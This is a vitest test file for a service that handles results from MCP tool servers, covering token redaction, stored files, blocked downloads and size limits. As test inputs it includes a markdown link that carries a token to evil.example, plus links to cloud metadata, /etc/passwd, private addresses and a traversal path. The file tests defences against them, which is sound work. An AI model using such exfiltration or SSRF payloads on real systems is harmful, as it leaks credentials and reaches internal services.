import { readFile } from 'node:fs/promises';
import type { IncomingMessage, RequestListener } from 'node:http';
import type { ContentBlock } from '@modelcontextprotocol/client';
import { LIMITS } from '@svc/contracts';
import { DEEP } from '@svc/testkit';
import { serveHere } from '@svc/testkit/http-server';
import { describe, expect, it, vi } from 'vitest';
import {
  type CallResult,
  decodeBase64,
  givenBlock,
  givenOf,
  readResult,
} from '../../src/calls/read-result.ts';
import { createSecrets } from '../../src/calls/secrets.ts';
import { connectorApp } from '../../src/connectors/connector-app.ts';
import type { ConnectorChoices } from '../../src/library/choice-tables.ts';
import { RuntimeError } from '../../src/platform/runtime-error.ts';
import { openCalls, TOKEN, tokensOf } from '../support/calls.ts';
import { json, type ServerOptions, text } from '../support/mcp-server.ts';
import { panelApp } from '../support/panel-app.ts';
import { refused } from '../support/refused.ts';

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const GRANTS = ['files:receive', 'files:return'] as const;

const answering = (result: object, grants: readonly ('files:receive' | 'files:return')[] = GRANTS) =>
  openCalls(() => result, { deps: tokensOf(TOKEN), manifest: { grants: [...grants] } });

const leaks = (result: CallResult) => JSON.stringify(result).includes(TOKEN);

describe('a token that a server sends back', () => {
  it.each([
    ['a text', text(`Your token is ${TOKEN}.`)],
    ['a link in a text', text(`![x](https://evil.example/?t=${encodeURIComponent(TOKEN)})`)],
    ['base64', text(Buffer.from(`Bearer ${TOKEN}`).toString('base64'))],
    ['structured content', { content: [], structuredContent: { deep: [{ [TOKEN]: TOKEN }] } }],
    ['a value alone', { ok: TOKEN }],
    ['an error of the tool', { ...text(TOKEN), isError: true }],
    [
      'a resource',
      { content: [{ type: 'resource', resource: { uri: `https://x.example/${TOKEN}`, text: TOKEN } }] },
    ],
    [
      'two texts',
      { content: [TOKEN.slice(0, 9), TOKEN.slice(9)].map((piece) => ({ type: 'text', text: piece })) },
    ],
    [
      'a name of a file',
      { content: [{ type: 'resource_link', uri: 'https://evil.example/f', name: TOKEN }] },
    ],
    [
      'a link that is not allowed',
      { content: [{ type: 'resource_link', uri: `https://evil.example/${TOKEN}`, name: '' }] },
    ],
    [
      'annotations',
      {
        content: [{ type: 'text', text: 'x', annotations: { note: TOKEN }, _meta: { t: TOKEN } }],
        _meta: { t: TOKEN },
      },
    ],
  ])('in %s does not reach the agent', async (_where, result) => {
    const { call } = await answering(result);
    const got = await call('mine');
    expect(leaks(got)).toBe(false);
    const joined = got.parts.map((part) => (part.type === 'text' ? part.text : '')).join('');
    expect(joined).not.toContain(TOKEN);
  });

  it('in a file prevents the file from being stored', async () => {
    const blob = Buffer.concat([PNG, Buffer.from(TOKEN)]).toString('base64');
    const { call } = await answering({ content: [{ type: 'image', data: blob, mimeType: 'image/png' }] });
    const got = await call('mine');
    expect(got.files).toEqual([]);
    expect(got.parts).toEqual([{ type: 'text', text: expect.stringContaining('was not kept') }]);
  });

  it('that was used earlier is redacted too, also in a call without an account', async () => {
    const old = 'another-token-of-yesterday';
    let turn = 0;
    const { call } = await openCalls(() => text(`${old} ${TOKEN}`), {
      deps: {
        tokens: { ...tokensOf(null).tokens, token: async () => [old, TOKEN][Math.min(turn++, 1)] ?? null },
      },
    });
    await call('mine');
    expect((await call('plain')).parts).toEqual([{ type: 'text', text: '[secret] [secret]' }]);
  });
});

describe('a file', () => {
  const image = { type: 'image', data: PNG.toString('base64'), mimeType: 'text/html' };

  it('is stored for its app and project, with the type of its content', async () => {
    const { call, folder } = await answering({
      content: [
        image,
        {
          type: 'resource',
          resource: { uri: 'file:///etc/../../x/report.html', blob: Buffer.from('hello').toString('base64') },
        },
      ],
    });
    const { files, parts } = await call('mine');
    expect(files).toMatchObject([
      { name: 'image.png', type: 'image/png', bytes: PNG.length },
      { name: 'report.html', type: 'text/html', bytes: 5 },
    ]);
    expect(parts.map(({ type }) => type)).toEqual(['file', 'file']);
    for (const file of files) expect(file.path.startsWith(folder)).toBe(true);
    expect(await readFile(files[0]?.path ?? '')).toEqual(PNG);
  });

  it('is refused without the grant, and the other parts are returned', async () => {
    const { call } = await answering({ content: [image, { type: 'text', text: 'done' }] }, ['files:receive']);
    expect(await call('mine')).toMatchObject({
      files: [],
      parts: [
        { type: 'text', text: expect.stringContaining('may not return files') },
        { type: 'text', text: 'done' },
      ],
    });
  });

  it('that is not base64 is not stored', async () => {
    const { call } = await answering({ content: [{ ...image, data: 'AAAA!AAAA' }] });
    const { parts, files } = await call('mine');
    expect([parts, files]).toEqual([[{ type: 'text', text: expect.stringContaining('malformed') }], []]);
  });

  it('is requested from a host of the app', async () => {
    const { call } = await openCalls(
      ({ url }) => ({ content: [{ type: 'resource_link', uri: `${url}/report.pdf?x=1`, name: '' }] }),
      { deps: tokensOf(TOKEN), manifest: { grants: ['files:return'] } },
    );
    // The server of the test accepts only POST: its 405 shows that the download was requested.
    expect((await call('mine')).parts).toEqual([
      { type: 'text', text: '[The file report.pdf was not kept: A file is answered with 405.]' },
    ]);
  });

  it('is requested from the server of the app and from another host without the token, the project and the chat', async () => {
    const asked: IncomingMessage[] = [];
    const serveFile: RequestListener = (request, response) => {
      asked.push(request);
      response.end('inside');
    };
    const elsewhere = await serveHere(() => serveFile);
    const { call, mcp } = await openCalls(
      ({ url }) => ({
        content: [url, elsewhere].map((uri) => ({
          type: 'resource_link',
          uri: `${uri}/notes.txt`,
          name: '',
        })),
      }),
      {
        deps: tokensOf(TOKEN),
        manifest: { grants: ['files:return'] },
        server: {
          serve: (listener) =>
            serveHere(
              (url) => (request, response) =>
                (request.url === '/notes.txt' ? serveFile : listener(url))(request, response),
            ),
        },
      },
    );
    const { files } = await call('mine');
    expect(files).toMatchObject([{ name: 'notes.txt' }, { name: 'notes.txt' }]);
    expect(mcp.headersOf('tools/call')[0]).toMatchObject({ authorization: `Bearer ${TOKEN}` });
    expect(asked.map(({ headers }) => `http://${headers.host}`)).toEqual([mcp.origin, elsewhere]);
    for (const { headers, url } of asked) {
      expect(JSON.stringify([headers, url])).not.toContain(TOKEN);
      expect(Object.keys(headers).filter((name) => /^(?:authorization|cookie|x-svc-)/.test(name))).toEqual(
        [],
      );
    }
  });

  it.each([
    'https://evil.example/f',
    'http://169.254.169.254/latest/meta-data/',
    'file:///etc/passwd',
    'data:text/plain,hello',
    'https://10.0.0.1/',
    'http://127.0.0.1:1/',
    'nonsense',
  ])('is not downloaded from %s', async (uri) => {
    const { call } = await answering({ content: [{ type: 'resource_link', uri, name: 'f' }] });
    const got = await call('mine');
    expect(got.files).toEqual([]);
    expect(got.parts).toEqual([
      { type: 'text', text: expect.stringMatching(/^\[The file f was not kept: /) },
    ]);
  });

  it('is not downloaded from another host after a redirect', async () => {
    const inside = await serveHere(() => (_request, response) => void response.end('inside'));
    const elsewhere = inside.replace('localhost', '127.0.0.1');
    const detour = await serveHere(
      () => (request, response) =>
        void (request.method === 'GET'
          ? response.writeHead(302, { location: elsewhere }).end()
          : response.end()),
    );
    const { call } = await answering({ content: [{ type: 'resource_link', uri: detour, name: 'f' }] });
    expect((await call('mine')).parts).toEqual([
      { type: 'text', text: '[The file f was not kept: The app may not access the host 127.0.0.1.]' },
    ]);
  });
});

describe('a connector', () => {
  const local = { kind: 'address', addresses: ['127.0.0.1', '::1'] } as const;
  const source = { kind: 'connector', url: 'http://localhost/mcp', local } as const;
  const blob = PNG.toString('base64');
  const media = {
    content: [
      { type: 'image', data: blob, mimeType: 'image/png' },
      { type: 'audio', data: Buffer.from('RIFF\u0004\0\0\0WAVE').toString('base64'), mimeType: 'audio/wav' },
      { type: 'resource', resource: { uri: 'demo://pictures/dot.png', blob } },
      { type: 'resource', resource: { uri: 'demo://texts/1', text: 'inline' } },
    ],
  };
  const choosing = (choices: Partial<ConnectorChoices>) => ({
    connectorSettings: {
      of: () => ({ media: true, questions: true, sampling: false, roots: false, ...choices }),
    },
  });
  /** The answers to `resources/read` of a server, by URI. */
  const reading = (contents: Record<string, object[]>, read: string[] = []): ServerOptions => ({
    before({ message, response }) {
      if (message.method !== 'resources/read') return false;
      const uri = String(Reflect.get(message.params, 'uri'));
      read.push(uri);
      const found = contents[uri];
      const answer = found
        ? { result: { contents: found.map((one) => ({ uri, ...one })) } }
        : { error: { code: -32002, message: 'No such resource' } };
      json(response, { jsonrpc: '2.0', id: message.id, ...answer });
      return true;
    },
  });
  const linking = (...uris: string[]) => ({
    content: uris.map((uri) => ({ type: 'resource_link', uri, name: 'linked' })),
  });

  it('returns pictures, sounds and embedded resources', async () => {
    const { call } = await openCalls(() => media, { app: { source } });
    const { parts, files } = await call('plain');
    expect(files.map(({ name, type }) => [name, type])).toEqual([
      ['image.png', 'image/png'],
      ['audio.wav', 'audio/wav'],
      ['dot.png', 'image/png'],
    ]);
    expect(parts.at(-1)).toMatchObject({ type: 'text', text: 'inline' });
  });

  it('returns no file while the user has switched its files off', async () => {
    const { call, mcp } = await openCalls(
      () => ({ content: [...media.content, ...linking('a://b').content] }),
      {
        app: { source },
        deps: choosing({ media: false }),
      },
    );
    const { files, parts } = await call('plain');
    expect(files).toEqual([]);
    expect(parts.map((part) => part.type === 'text' && part.text)).toEqual([
      ...Array(3).fill(expect.stringContaining('switched off in its settings')),
      'inline',
      expect.stringContaining('switched off in its settings'),
    ]);
    expect(mcp.asked.map(({ message }) => message.method)).not.toContain('resources/read');
  });

  it('is asked in its session for the resources that it links to, whatever their scheme', async () => {
    const read: string[] = [];
    const uris = ['file:///etc/passwd', 'http://169.254.169.254/latest', 'demo://dot', 'test+x:note'];
    const contents = Object.fromEntries(
      uris.map((uri) => [uri, uri === 'demo://dot' ? [{ blob }] : [{ text: uri }]]),
    );
    const { call } = await openCalls(() => linking(...uris), {
      app: { source },
      server: reading(contents, read),
    });
    const { files } = await call('plain');
    expect(read).toEqual(uris);
    expect(files.map(({ name }) => name)).toEqual(['linked.txt', 'linked.txt', 'linked.png', 'linked.txt']);
    expect(await readFile(files[0]?.path ?? '', 'utf8')).toBe('file:///etc/passwd');
  });

  it('that does not have a linked resource loses only this file', async () => {
    const { call } = await openCalls(() => linking('demo://gone', 'demo://none', 'demo://dot'), {
      app: { source },
      server: reading({ 'demo://none': [], 'demo://dot': [{ blob }] }),
    });
    const { parts } = await call('plain');
    expect(parts).toMatchObject([
      { type: 'text', text: expect.stringContaining('No such resource') },
      { type: 'text', text: expect.stringContaining('The linked resource is empty.') },
      { type: 'file' },
    ]);
  });

  it('returns files up to a limit of all together', DEEP, async () => {
    const large = Buffer.alloc(LIMITS.file.maxBytes * 0.6).toString('base64');
    const image = { type: 'image', data: large, mimeType: 'image/png' };
    const { call } = await openCalls(() => ({ content: [image, image] }), { app: { source } });
    const { parts } = await call('plain');
    expect(parts).toMatchObject([
      { type: 'file' },
      { type: 'text', text: expect.stringContaining('larger than allowed') },
    ]);
  });
});

describe('an app of the store', () => {
  it('is asked in its session for resources with another scheme than http', async () => {
    const { call, mcp } = await answering({
      content: [{ type: 'resource_link', uri: 'demo://dot', name: 'f' }],
    });
    await call('mine');
    expect(mcp.asked.map(({ message }) => message.method)).toContain('resources/read');
  });
});

describe('a result that is too large', () => {
  it.each([
    ['text', text('x'.repeat(2 ** 20 + 1))],
    ['structured content', { content: [], structuredContent: { x: 'x'.repeat(2 ** 20) } }],
    ['a value alone', { x: 'x'.repeat(2 ** 20) }],
  ])('in %s is kept as a file of its app', async (_what, result) => {
    const { call } = await answering(result);
    const { files } = await call('mine');
    expect(files).toMatchObject([{ name: 'result.txt', type: 'text/plain' }]);
    expect(files[0]?.bytes).toBeGreaterThan(2 ** 20);
  });

  it.each([
    [
      'the name of a link',
      { content: [{ type: 'resource_link', uri: 'https://x.example/f', name: 'x'.repeat(2 ** 20) }] },
    ],
    [
      'the address of a link',
      { content: [{ type: 'resource_link', uri: `https://x.example/${'x'.repeat(2 ** 20)}`, name: 'f' }] },
    ],
    [
      'the names of all links',
      {
        content: Array.from({ length: 20 }, () => ({
          type: 'resource_link',
          uri: 'https://x.example/f',
          name: '.'.repeat(60_000),
        })),
      },
    ],
    [
      'the address of a resource',
      { content: [{ type: 'resource', resource: { uri: `x:${'x'.repeat(2 ** 20)}`, text: '' } }] },
    ],
    [
      'the type of a picture',
      { content: [{ type: 'image', data: '', mimeType: `image/${'x'.repeat(2 ** 20)}` }] },
    ],
    ['annotations', { content: [{ type: 'text', text: '', _meta: { note: 'x'.repeat(2 ** 20) } }] }],
    ['the number of parts', { content: Array.from({ length: 501 }, () => ({ type: 'text', text: '' })) }],
    [
      'the number of files',
      { content: Array.from({ length: 21 }, () => ({ type: 'image', data: '', mimeType: 'image/png' })) },
    ],
  ])('in %s is refused', async (_what, result) => {
    const { call } = await answering(result);
    await expect(call('mine')).rejects.toEqual(refused('too-large'));
  });
});

describe('base64 of a server', () => {
  it.each([
    ['in one line', 'aGVsbG8gd29ybGQ='],
    ['in lines of MIME', 'aGVs\r\nbG8gd29y\r\nbGQ=\r\n'],
    ['indented', '\n  aGVsbG8g\n\td29ybGQ=\n'],
  ])('is decoded %s', (_, data) => expect(decodeBase64(data, 11).toString()).toBe('hello world'));

  it.each(['aGVs*G8=', 'data:text/plain;base64,aGVsbG8=', 'aGVsbG8===', 'aGVsbG8\u00a0='])(
    'is refused when it is none: %j',
    (data) => expect(() => decodeBase64(data, 100)).toThrow(refused('server-failed')),
  );

  it('is refused by its size, however it is wrapped', () => {
    expect(() => decodeBase64('AAAA'.repeat(5), 12)).toThrow(refused('too-large'));
    expect(decodeBase64('AAAA\n'.repeat(4), 12)).toHaveLength(12);
  });
});

describe('what a server says of a part', () => {
  const secrets = createSecrets();
  secrets.add(TOKEN);
  const icon = { src: 'https://a.example/i.png' };
  const LONG = Array.from({ length: 4 }, () => 'x'.repeat(4_000));
  const room = 16 * 1024 - JSON.stringify({ a: LONG, b: '' }).length;

  it.each<[string, object, object]>([
    [
      'is passed on without tokens and hidden characters',
      { title: `a\u200b ${TOKEN}`, none: undefined },
      { title: 'a [secret]' },
    ],
    [
      'has icons of https and data URLs alone',
      {
        icons: [
          icon,
          { src: 'DATA:image/png;base64,AA' },
          { src: 'http://a.example/' },
          { src: 'data:text/html,x' },
          { src: ['https://a.example/'] },
          null,
          'https:',
        ],
      },
      { icons: [icon, { src: 'DATA:image/png;base64,AA' }] },
    ],
    ['has no icons where none can be shown', { icons: [null], a: 1 }, { a: 1 }],
    ['has no icons that are no list', { icons: icon, a: 1 }, { a: 1 }],
    ['has up to 16 KiB', { a: LONG, b: 'x'.repeat(room) }, { a: LONG, b: 'x'.repeat(room) }],
    ['has not more', { a: LONG, b: 'x'.repeat(room + 1) }, {}],
  ])('%s', (_what, part, given) => {
    expect(givenOf(part, secrets)).toStrictEqual(given);
  });

  it.each<[object, object]>([
    [{ type: 'text', text: 'x' }, {}],
    [{ type: 'text', text: 'x', annotations: { a: 1 } }, { given: { type: 'text', annotations: { a: 1 } } }],
    [
      { type: 'image', data: 'AAAA', mimeType: 'image/png' },
      { given: { type: 'image', mimeType: 'image/png' } },
    ],
    [{ type: 'audio', data: 'AAAA' }, { given: { type: 'audio' } }],
    [
      { type: 'resource', resource: { uri: 'x:y', text: 'x' }, _meta: {} },
      { given: { type: 'resource', _meta: {}, resource: { uri: 'x:y' } } },
    ],
    [
      { type: 'resource', resource: { uri: 'x:y', blob: 'AAAA' } },
      { given: { type: 'resource', resource: { uri: 'x:y' } } },
    ],
    [
      { type: 'resource', resource: { uri: 'x:y', text: 'x'.repeat(20_000) } },
      { given: { type: 'resource', resource: { uri: 'x:y' } } },
    ],
  ])('as %j is all but its text and bytes', (block, given) => {
    expect(givenBlock(block as ContentBlock, secrets)).toStrictEqual(given);
  });
});

describe('a result', () => {
  const app = panelApp({ grants: ['files:return'], domains: ['files.example.com'] } as never);
  const connector = connectorApp('https://mcp.example.com/', false);
  const read = (result: object, deps: Partial<Parameters<typeof readResult>[1]> = {}) =>
    readResult(result as never, {
      ...{ app, project: 'project-1', secrets: createSecrets(), signal: new AbortController().signal },
      ...{ mayReturnMedia: () => true, fetch, read: async () => ({ contents: [] }) },
      storage: { keep: async (_of, { name, bytes }) => ({ name, bytes: bytes.byteLength }) as never },
      ...deps,
    });
  const image = (data = 'AAAA') => ({ type: 'image', data, mimeType: 'image/png' });

  it.each<[string, (more: number) => object]>([
    [
      '500 blocks',
      (more) => ({ content: Array.from({ length: 500 + more }, () => ({ type: 'text', text: '' })) }),
    ],
    ['20 files', (more) => ({ content: Array.from({ length: 20 + more }, () => image()) })],
  ])('has at most %s', async (_what, result) => {
    await expect(read(result(0))).resolves.toBeDefined();
    await expect(read(result(1))).rejects.toEqual(refused('too-large'));
  });

  it.each<[string, (more: number) => object]>([
    ['structure', (more) => ({ content: [], structuredContent: { a: 'x'.repeat(1024 * 1024 - 8 + more) } })],
    // The names of fields count: type, text, and the type itself.
    ['text', (more) => ({ content: [{ type: 'text', text: 'x'.repeat(1024 * 1024 - 12 + more) }] })],
    [
      'text with a file',
      (more) => ({
        content: [{ type: 'text', text: 'x'.repeat(1024 * 1024 - 45 + more) }, image()],
      }),
    ],
  ])('is kept as a file, and not lost, with more than a mebibyte of %s', async (_what, result) => {
    const isFile = ({ name }: { name: string }) => name === 'result.txt';
    expect((await read(result(0))).files.filter(isFile)).toEqual([]);
    const kept: string[] = [];
    const storage = {
      async keep(_of: unknown, { name, bytes }: { name: string; bytes: Uint8Array }) {
        if (name === 'result.txt') kept.push(Buffer.from(bytes).toString());
        return { id: name, name, bytes: bytes.byteLength } as never;
      },
    };
    const { parts, structured, files } = await read(result(100), { storage });
    const [whole = ''] = kept;
    expect([kept.length, structured, files.some(isFile)]).toEqual([1, null, true]);
    const [text] = parts;
    if (text?.type !== 'text') throw new Error('There is no text.');
    expect(text.whole).toEqual({ file: 'result.txt', characters: whole.length });
    expect(text.text.length).toBeLessThan(60_000);
    expect(whole).toContain(text.text.split('\n')[1] ?? 'none');
    // Its other files are kept too.
    expect(files).toHaveLength(_what === 'text with a file' ? 2 : 1);
  });

  it('is refused with a mebibyte of names and annotations', async () => {
    const title = 'x'.repeat(1024 * 1024);
    await expect(
      read({ content: [{ type: 'resource_link', uri: 'x:y', name: 'a', title }] }),
    ).rejects.toEqual(refused('too-large'));
  });

  it('has larger files than texts', async () => {
    const data = 'A'.repeat(1_200_000);
    const { files } = await read({
      content: [image(data), { type: 'resource', resource: { uri: 'x:y', blob: data } }],
    });
    expect(files).toMatchObject([{ bytes: 900_000 }, { bytes: 900_000 }]);
  });

  it('of a connector has files of 20 MiB together', async () => {
    const content = [image('A'.repeat(Math.ceil(LIMITS.file.maxBytes / 3) * 4 - 4).concat('AAA=')), image()];
    const { files, parts } = await read({ content }, { app: connector });
    expect(files).toHaveLength(1);
    expect(parts[1]).toMatchObject({ type: 'text', text: expect.stringContaining('was not kept') });
  });

  it('has what the server says beside its parts, of a connector alone', async () => {
    const result = {
      content: [{ type: 'resource', resource: { uri: 'x:y', text: 'x' } }],
      _meta: { a: 1 },
      isError: true,
    };
    const part = { type: 'text', text: 'x' };
    expect(await read(result)).toStrictEqual({ isError: true, parts: [part], structured: null, files: [] });
    const given = { type: 'resource', resource: { uri: 'x:y' } };
    expect(await read(result, { app: connector })).toStrictEqual({
      ...{ isError: true, parts: [{ ...part, given }], structured: null, files: [] },
      given: { _meta: { a: 1 } },
    });
    expect(await read({ content: [], isError: 'yes' }, { app: connector })).toStrictEqual({
      ...{ isError: false, parts: [], structured: null, files: [] },
    });
  });

  it('keeps the note of a file that was refused, and fails for a fault and for a call that ended', async () => {
    const keep = (error: Error) => ({ keep: () => Promise.reject(error) });
    const full = new RuntimeError('too-large');
    const { parts } = await read({ content: [image()] }, { storage: keep(full) });
    expect(parts).toEqual([{ type: 'text', text: expect.stringContaining('The file image was not kept') }]);
    const fault = new TypeError('a bug');
    await expect(read({ content: [image()] }, { storage: keep(fault) })).rejects.toBe(fault);
    const disk = Object.assign(new Error('write'), { code: 'ENOSPC' });
    const { parts: noted } = await read({ content: [image()] }, { storage: keep(disk) });
    expect(noted).toEqual([{ type: 'text', text: expect.stringContaining('was not kept: The disk of') }]);
    const ended = { storage: keep(full), signal: AbortSignal.abort() };
    await expect(read({ content: [image()] }, ended)).rejects.toBe(full);
  });

  it('does not read the body of a refused download', async () => {
    const cancel = vi.fn();
    const refusal = new Response(new ReadableStream({ cancel }), { status: 404 });
    const link = { type: 'resource_link', uri: 'https://files.example.com/a.txt', name: 'a.txt' };
    const { parts } = await read({ content: [link] }, { fetch: async () => refusal });
    expect(parts).toEqual([{ type: 'text', text: expect.stringContaining('answered with 404') }]);
    expect(cancel).toHaveBeenCalledOnce();
  });
});
